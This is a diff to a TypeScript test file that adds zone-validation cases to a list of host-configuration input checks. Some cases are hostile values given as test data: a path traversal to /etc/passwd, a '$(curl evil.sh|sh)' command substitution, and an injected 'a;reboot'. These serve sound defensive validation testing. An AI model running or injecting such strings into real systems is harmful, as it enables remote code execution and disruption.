@@ -141,6 +141,8 @@ export function hostCases(at: string): CaseSpec[] {
     ['host name with a path traversal', `${at}.name`, /DNS-1123/, set(`${at}.name`, '../../etc/passwd')],
     ['host name with a command substitution', `${at}.name`, /DNS-1123/, set(`${at}.name`, '$(curl evil.sh|sh)')],
     ['host role "master"', `${at}.role`, /Invalid option/i, set(`${at}.role`, 'master')],
+    ['host zone with spaces and capitals', `${at}.zone`, /must be a zone name/, set(`${at}.zone`, 'US East 1a')],
+    ['host zone with a shell command', `${at}.zone`, /must be a zone name/, set(`${at}.zone`, 'a;reboot')],
     ['host without ssh settings', `${at}.ssh`, /expected object/i, drop(`${at}.ssh`)],
     ['ssh port 0', `${at}.ssh.port`, />=\s*1/, set(`${at}.ssh.port`, 0)],
     ['ssh port above 65535', `${at}.ssh.port`, /<=\s*65535/, set(`${at}.ssh.port`, 70_000)],
